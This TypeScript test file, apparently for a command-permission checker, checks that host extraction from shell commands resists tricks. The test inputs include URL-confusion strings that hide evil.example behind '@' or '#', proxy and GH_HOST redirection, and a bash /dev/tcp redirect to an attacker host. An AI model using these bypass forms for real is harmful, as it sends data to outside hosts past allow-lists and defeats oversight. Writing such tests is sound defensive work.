import assert from 'node:assert/strict';
import test from 'node:test';
import fc from 'fast-check';
import { hostsOf } from './hosts.ts';
import { readCommand } from './read-command.ts';

const hosts = (line: string) => hostsOf(readCommand({ kind: 'shell', line }).commands);

const cases: readonly [string, string][] = [
  ['curl https://API.GitHub.com:443/user', 'api.github.com'],
  ['curl -X POST --url=https://a.example/x https://b.example', 'a.example b.example'],
  ['curl https://api.github.com@evil.example/', 'evil.example'],
  ['curl https://api.github.com:x@evil.example/', 'evil.example'],
  ["curl 'https://evil.example\\@api.github.com/'", ''],
  ["curl 'https://evil.example#@api.github.com/'", 'evil.example'],
  ["curl 'https://evil.example?@api.github.com/'", 'evil.example'],
  ["curl 'https://user:p@ss@evil.example/'", 'evil.example'],
  ['curl https://bücher.example/', 'xn--bcher-kva.example'],
  ['curl https://a.example./', 'a.example'],
  ['curl http://0x7f.1/', '127.0.0.1'],
  ["curl 'http://[::1]:8080/'", '::1'],
  ['curl https://$HOST/x', ''],
  ['curl api.example/x', 'api.example'],
  ['curl -s evil.example https://a.example', 'a.example evil.example'],
  ["curl 'https://{a.example,evil.example}/x' https://a.example", ''],
  ['curl -d @x -H "A: https://b.example" -sSo out https://a.example', 'a.example'],
  ['curl -x proxy.example:3128 https://a.example', ''],
  ['curl --connect-to ::evil.example:443 https://a.example', ''],
  ['curl -K config https://a.example', ''],
  ['HTTPS_PROXY=http://evil.example curl https://a.example', ''],
  ['xargs curl https://a.example', ''],
  ['xargs gh api', ''],
  ['wget -qO- https://a.example', 'a.example'],
  ['git clone git@github.com:a/b.git', 'github.com'],
  ['git push ssh://git@git.example:22/a', 'git.example'],
  ['git fetch origin main:main', ''],
  ['scp a.txt me@host.example:/x', 'host.example'],
  ['scp a.txt build:/x', ''],
  ['rsync -a x host.example:/y', 'host.example'],
  ['ssh -p 22 -i key me@Host.example uptime', 'host.example'],
  ['ssh -oProxyJump=x host uptime', 'host'],
  ['psql -h db.example -U me', 'db.example'],
  ['psql --host=db.example', 'db.example'],
  ['psql -hdb.example', 'db.example'],
  ['psql -h /var/run', ''],
  ['psql postgres://u:p@db.example:5432/x', 'db.example'],
  ['mongosh mongodb://u:p@a.example:1,b.example:2/x', 'a.example b.example'],
  ['redis-cli -u rediss://:p@cache.example:6379', 'cache.example'],
  ['mysql -h 10.0.0.1', '10.0.0.1'],
  ['gh pr list', 'api.github.com'],
  ['gh api --hostname ghe.example user', 'ghe.example'],
  ['GH_HOST=evil.example gh api user', ''],
  ['export GH_HOST=evil.example; gh api user', ''],
  ['env GH_HOST=evil.example gh api user', ''],
  ['aws s3 ls', '*.amazonaws.com'],
  ['aws --endpoint-url https://s3.example s3 ls', 's3.example'],
  ['AWS_ENDPOINT_URL=x aws s3 ls', ''],
  ["bash -c 'gh x >/dev/tcp/evil.example/80'", 'api.github.com evil.example'],
  ['echo https://a.example; curl https://a.example', 'a.example'],
  ['ls', ''],
];
for (const [line, expected] of cases) {
  test(`goes to ${expected === '' ? 'nobody knows where' : expected}: ${line}`, () => {
    assert.deepEqual(hosts(line), expected === '' ? [] : expected.split(' '));
  });
}

test('whatever comes before the last @ of a URL is not its host (P2)', () => {
  const user = fc.stringMatching(/^[a-z0-9.:@-]{1,20}$/);
  fc.assert(
    fc.property(user, (name) => {
      const [command] = readCommand({ kind: 'argv', argv: ['curl', `https://${name}@evil.example/x`] }).commands;
      assert.deepEqual(command === undefined ? [] : hostsOf([command]), ['evil.example']);
    }),
  );
});

test('finds hosts in any words without a fault', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.string(), fc.constantFrom('-h', '--host', 'https://', '@', 'git', 'a@b:c'))),
      (words) => {
        for (const program of ['curl', 'git', 'ssh', 'psql', 'gh']) {
          const read = readCommand({ kind: 'argv', argv: [program, ...words] });
          for (const host of hostsOf(read.commands)) assert.match(host, /^[a-z0-9_.*:-]+$/);
        }
      },
    ),
  );
});
